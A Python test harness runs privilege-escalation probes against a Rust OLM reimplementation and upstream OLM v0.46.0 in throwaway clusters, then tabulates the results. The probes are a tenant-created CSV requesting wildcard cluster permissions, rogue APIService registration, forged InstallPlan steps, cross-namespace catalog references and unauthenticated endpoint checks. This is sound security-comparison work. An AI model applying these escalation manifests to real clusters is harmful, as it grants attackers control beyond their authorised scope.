#!/usr/bin/env python3
"""The attack suite's probes, run against `olm run` and against upstream OLM v0.46.0 side by
side, to fill the README's "Security model" table (probe, ours, upstream).

Each side gets its own control plane and OLM as hack/bench/install.py starts them (upstream:
its olm and catalog operators built by hack/upstream-olm/build; ours: `olm run` with its
default admin address). In each, a tenant `alice` (a ServiceAccount of namespace `t1`) may
create, read and update CSVs, InstallPlans and CatalogSources in `t1` and nothing else, and
is impersonated with `kubectl --as`. Every probe waits for an outcome it can observe (an
object, a phase, a status message, a `kubectl auth can-i` answer), never a fixed sleep; a
probe that sees neither within its bound says so.

The Rust cluster tests (tests/cluster/security.rs) are the suite that gates a change; this
script only compares.

Usage: hack/security/probes.py [--side both|ours|upstream] [--olm target/debug/olm] [--json]
       (needs hack/upstream-olm/build for upstream, and `cargo build --bin olm` for ours)
"""
import argparse, json, os, socket, subprocess, sys, tempfile, time, urllib.request
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "bench"))
import install as ib  # noqa: E402

NS, SCOPED = "t1", "t2"
ALICE = f"system:serviceaccount:{NS}:alice"
UPSTREAM_CHART = Path.home() / "go/pkg/mod" / f"{ib.UPSTREAM_MODULE}@{ib.UPSTREAM_VERSION}" / "deploy/chart/templates"


def poll(what, timeout, fn, interval=0.5):
    """fn() until it returns something truthy; None after `timeout` seconds."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        got = fn()
        if got:
            return got
        time.sleep(interval)
    ib.log(f"  {what}: nothing within {timeout} s")
    return None


class Probe:
    def __init__(self, side):
        self.side = side
        self.k = side.cluster.kubectl

    def apply(self, obj, as_user=None, check=True):
        args = (["--as", as_user] if as_user else []) + ["apply", "-f", "-"]
        return self.k(*args, stdin=json.dumps(obj), check=check)

    def get(self, *args):
        out = self.k("get", *args, "-o", "json", check=False)
        return json.loads(out) if out.strip() else None

    def can_i(self, verb, resource, ns, user):
        return self.k("auth", "can-i", verb, resource, "-n", ns, f"--as={user}", check=False).strip() == "yes"

    def setup(self):
        for ns in (NS, SCOPED):
            self.k("create", "namespace", ns)
        self.apply(group(NS))
        self.apply(group(SCOPED, account="installer"))
        grant(self, NS, "alice", [{"apiGroups": ["operators.coreos.com"],
                                   "resources": ["clusterserviceversions", "installplans", "catalogsources"],
                                   "verbs": ["create", "get", "list", "watch", "update", "patch"]}])
        grant(self, SCOPED, "installer", [{"apiGroups": ["", "apps", "rbac.authorization.k8s.io", "operators.coreos.com"],
                                           "resources": ["*"], "verbs": ["*"]}])
        poll("groups ready", 60, lambda: all((self.get("og", "og", "-n", ns) or {}).get("status", {}).get("namespaces")
                                             for ns in (NS, SCOPED)))


def group(ns, account=None):
    spec = {"targetNamespaces": [ns]}
    if account:
        spec["serviceAccountName"] = account
    return {"apiVersion": "operators.coreos.com/v1", "kind": "OperatorGroup",
            "metadata": {"name": "og", "namespace": ns}, "spec": spec}


def grant(p, ns, name, rules):
    meta = {"name": name, "namespace": ns}
    p.apply({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": meta, "rules": rules},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": meta,
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
         "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": ns}]}]})


def csv(name, ns, **strategy):
    deployments = strategy.pop("deployments", [])
    spec = {"displayName": name, "installModes": [{"type": "OwnNamespace", "supported": True}],
            "install": {"strategy": "deployment", "spec": {"deployments": deployments, **strategy}}}
    return {"apiVersion": "operators.coreos.com/v1alpha1", "kind": "ClusterServiceVersion",
            "metadata": {"name": name, "namespace": ns}, "spec": spec}


def deployment(name):
    return {"name": name, "spec": {"selector": {"matchLabels": {"app": name}}, "template": {
        "metadata": {"labels": {"app": name}},
        "spec": {"containers": [{"name": name, "image": "example.com/pwn:1"}]}}}}


def status_of(p, kind, name, ns):
    obj = p.get(kind, name, "-n", ns) or {}
    return obj.get("status") or {}


def probe_csv_grants(p):
    """Row 1: a CSV alone grants its account any rule, cluster-wide."""
    p.apply(csv("pwn.v0.0.1", NS, clusterPermissions=[
        {"serviceAccountName": "pwn", "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}]), as_user=ALICE)
    user = f"system:serviceaccount:{NS}:pwn"

    def outcome():
        if p.can_i("*", "*", NS, user):
            return "**granted**: `can-i '*' '*'` as pwn is yes"
        s = status_of(p, "csv", "pwn.v0.0.1", NS)
        if s.get("phase") == "Pending" and s.get("reason") == "RequirementsNotMet":
            return "refused: Pending, RequirementsNotMet"
        return None
    return poll("csv grants", 60, outcome) or f"phase {status_of(p, 'csv', 'pwn.v0.0.1', NS).get('phase')}"


def probe_scoped_api_service(p, group_name):
    """Row 2: under a scoped group, a tenant's CSV registers an APIService."""
    name = "pwn-api.v0.0.1"
    body = csv(name, SCOPED, deployments=[deployment("pwn-api")])
    body["spec"]["apiservicedefinitions"] = {"owned": [{
        "name": "gizmos", "group": group_name, "version": "v1", "kind": "Gizmo", "displayName": "Gizmo",
        "deploymentName": "pwn-api", "containerPort": 5443}]}
    p.apply(body)

    def outcome():
        if p.get("apiservice", f"v1.{group_name}"):
            return "**granted**: APIService registered"
        s = status_of(p, "csv", name, SCOPED)
        message = s.get("message", "")
        if "forbidden" in message:
            return f"refused: CSV {s.get('phase')}, the account's 403"
        return None
    return poll("scoped APIService", 90, outcome) or f"neither within 90 s (CSV {status_of(p, 'csv', name, SCOPED).get('phase')})"


def written_plan(p, ns, name, steps):
    p.apply({"apiVersion": "operators.coreos.com/v1alpha1", "kind": "InstallPlan",
             "metadata": {"name": name, "namespace": ns},
             "spec": {"approval": "Automatic", "approved": True, "clusterServiceVersionNames": []}})
    status = {"status": {"phase": "Installing", "catalogSources": [], "plan": steps}}
    p.k("patch", "installplan", name, "-n", ns, "--subresource=status", "--type=merge", "-p", json.dumps(status))


def step(kind, name, manifest):
    return {"resolving": "", "status": "Unknown", "resource": {
        "group": "", "version": "v1", "kind": kind, "name": name, "sourceName": "", "sourceNamespace": "",
        "manifest": json.dumps(manifest)}}


def config_map(name):
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}}


def probe_legacy_annotation(p):
    """Row 3: a plan that names bundles in the old annotation, made by whoever may create plans."""
    bundles = [{"name": "reverse-words.v0.2.0", "package": "reverse-words", "version": "0.2.0", "channel": "stable",
                "catalog": "private", "catalogNamespace": "t2-private"}]
    p.apply({"apiVersion": "operators.coreos.com/v1alpha1", "kind": "InstallPlan",
             "metadata": {"name": "legacy", "namespace": NS, "annotations": {"olm-rs.dev/bundles": json.dumps(bundles)}},
             "spec": {"approval": "Automatic", "approved": True, "clusterServiceVersionNames": ["reverse-words.v0.2.0"]}},
            as_user=ALICE)
    written_plan(p, NS, "marker", [step("ConfigMap", "marker", config_map("marker"))])
    done = poll("marker plan", 60, lambda: status_of(p, "installplan", "marker", NS).get("phase") == "Complete")
    legacy = status_of(p, "installplan", "legacy", NS)
    if legacy.get("plan") or legacy.get("bundleLookups"):
        return "**planned** from another namespace's catalog"
    return "left alone (no status)" if done else "left alone (marker plan did not complete)"


def probe_unsupported_step(p, group_name):
    """Row 4: a hand-written plan creates an APIService (after a ConfigMap step)."""
    service = {"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": {"name": f"v1.{group_name}"},
               "spec": {"group": group_name, "version": "v1", "groupPriorityMinimum": 1000, "versionPriority": 15,
                        "service": {"name": "evil", "namespace": NS}}}
    written_plan(p, NS, "kinds", [step("ConfigMap", "first", config_map("first")), step("APIService", service["metadata"]["name"], service)])

    def outcome():
        if p.get("apiservice", f"v1.{group_name}"):
            return "**created** the APIService"
        s = status_of(p, "installplan", "kinds", NS)
        if s.get("phase") == "Failed":
            ran = " (its ConfigMap step ran first)" if p.get("configmap", "first", "-n", NS) else ", nothing ran"
            statuses = [st.get("status") for st in s.get("plan", [])]
            return f"refused: Failed, {'UnsupportedResource' if 'UnsupportedResource' in statuses else s.get('message', '')[:60]}{ran}"
        return None
    found = poll("unsupported step", 60, outcome)
    if found:
        return found
    s = status_of(p, "installplan", "kinds", NS)
    statuses = "/".join(st.get("status", "") for st in s.get("plan", []))
    ran = "its ConfigMap step ran" if p.get("configmap", "first", "-n", NS) else "nothing ran"
    return f"not created; plan stays {s.get('phase')} (steps {statuses}), {ran}"


def host_ip():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("10.255.255.255", 1))
            ip = s.getsockname()[0]
        return None if ip.startswith("127.") else ip
    except OSError:
        return None


def probe_admin(p):
    """Row 5: metrics and debug endpoints from another host (this host's non-loopback address)."""
    ip = host_ip()
    if not ip:
        return "n/a (no non-loopback address here)"
    open_paths = []
    for path in ("/metrics", "/debug/catalogs"):
        try:
            with urllib.request.urlopen(f"http://{ip}:8080{path}", timeout=3) as r:
                if r.status == 200:
                    open_paths.append(path)
        except OSError:
            pass
    return f"**open without authentication**: {', '.join(open_paths)}" if open_paths else "nothing served off loopback without a token"


def probe_editor(p, roles_file):
    """Row 9: a namespace editor (ClusterRole edit, aggregating OLM's roles)."""
    if not roles_file.exists():
        return f"n/a ({roles_file} missing)"
    p.k("apply", "-f", roles_file)
    p.apply({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
             "metadata": {"name": "bob-edit", "namespace": NS},
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
             "subjects": [{"kind": "User", "name": "bob", "apiGroup": "rbac.authorization.k8s.io"}]})
    subscribes = poll("edit aggregates", 60, lambda: p.can_i("create", "subscriptions.operators.coreos.com", NS, "bob"))
    writes = [r for r in ("clusterserviceversions", "installplans", "catalogsources")
              if p.can_i("create", f"{r}.operators.coreos.com", NS, "bob")]
    status = p.can_i("patch", "installplans.operators.coreos.com/status", NS, "bob")
    verdict = "may subscribe" if subscribes else "may not subscribe"
    extra = writes + (["installplans/status"] if status else [])
    return f"{verdict}; " + (f"**may also create {', '.join(extra)}**" if extra else "nothing more")


def static_rbac():
    ours = (ib.REPO / "deploy/rbac.yaml").read_text()
    upstream = UPSTREAM_CHART / "0000_50_olm_02-olm-operator.serviceaccount.yaml"
    wildcard = lambda text: any(line.strip().startswith(("- '*'", '- "*"', "resources: ['*']", 'resources: ["*"]')) or "['*']" in line or '["*"]' in line
                                for line in text.splitlines() if not line.strip().startswith("#"))
    up = upstream.read_text() if upstream.exists() else ""
    return ("no wildcard rule" if not wildcard(ours) else "**a wildcard rule**",
            ("`*` on `*`" if wildcard(up) else "no wildcard rule") if up else "n/a")


def run_side(side, args):
    side.prepare()
    side.cluster.up(nodes=1)
    side.install_crds()
    if side.name == "upstream":
        side.start_operators(catalog=True)
    else:
        env = dict(os.environ, KUBECONFIG=str(side.cluster.kubeconfig))
        side.procs.spawn("olm-run", [side.bin, "run", "--leader-elect=false", "--packages-address", "off"],
                         env=env, cwd=side.workdir)
        poll("olm run ready", 60, lambda: ready("http://127.0.0.1:8080/readyz"))
    p = Probe(side)
    p.setup()
    group_name = f"evil{os.getpid()}.example.com"
    roles = ib.REPO / "deploy/aggregated-roles.yaml" if side.name == "ours" else UPSTREAM_CHART / "0000_50_olm_09-aggregated.clusterrole.yaml"
    results = {}
    for key, fn in [("1", lambda: probe_csv_grants(p)),
                    ("2", lambda: probe_scoped_api_service(p, group_name)),
                    ("3", lambda: probe_legacy_annotation(p)),
                    ("4", lambda: probe_unsupported_step(p, "x" + group_name)),
                    ("5", lambda: probe_admin(p)),
                    ("9", lambda: probe_editor(p, roles))]:
        ib.log(f"{side.name}: probe {key}")
        results[key] = fn()
        ib.log(f"  → {results[key]}")
    return results


def ready(url):
    try:
        with urllib.request.urlopen(url, timeout=2) as r:
            return r.status == 200
    except OSError:
        return False


PROBES = {
    "1": "a CSV alone grants its account `*` on `*` cluster-wide",
    "2": "under a scoped group, a CSV registers an APIService its account may not create",
    "3": "a plan naming another namespace's catalog in the `olm-rs.dev/bundles` annotation",
    "4": "a hand-written plan step creates an APIService (after a ConfigMap step)",
    "5": "`/metrics`, `/debug/catalogs` on :8080 from another host",
    "9": "a namespace editor (`edit`, aggregating OLM's roles)",
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--side", choices=["both", "ours", "upstream"], default="both")
    ap.add_argument("--olm", default=str(ib.REPO / "target/debug/olm"))
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    ib.interrupt_on_signals()
    names = ["ours", "upstream"] if args.side == "both" else [args.side]
    results = {}
    with tempfile.TemporaryDirectory(prefix="olm-probes-") as tmp:
        for name in names:
            side = (ib.Ours if name == "ours" else ib.Upstream)(args, Path(tmp))
            try:
                results[name] = run_side(side, args)
            finally:
                side.teardown()
    ours_rbac, upstream_rbac = static_rbac()
    if args.json:
        print(json.dumps({"results": results, "rbac": {"ours": ours_rbac, "upstream": upstream_rbac}}, indent=2))
        return
    print("| # | probe | ours | upstream v0.46.0 |\n|---|---|---|---|")
    for key, text in PROBES.items():
        print(f"| {key} | {text} | {results.get('ours', {}).get(key, '—')} | {results.get('upstream', {}).get(key, '—')} |")
    print(f"| 8 | OLM's own ClusterRole (`deploy/`, upstream's chart) | {ours_rbac} | {upstream_rbac} |")


if __name__ == "__main__":
    main()
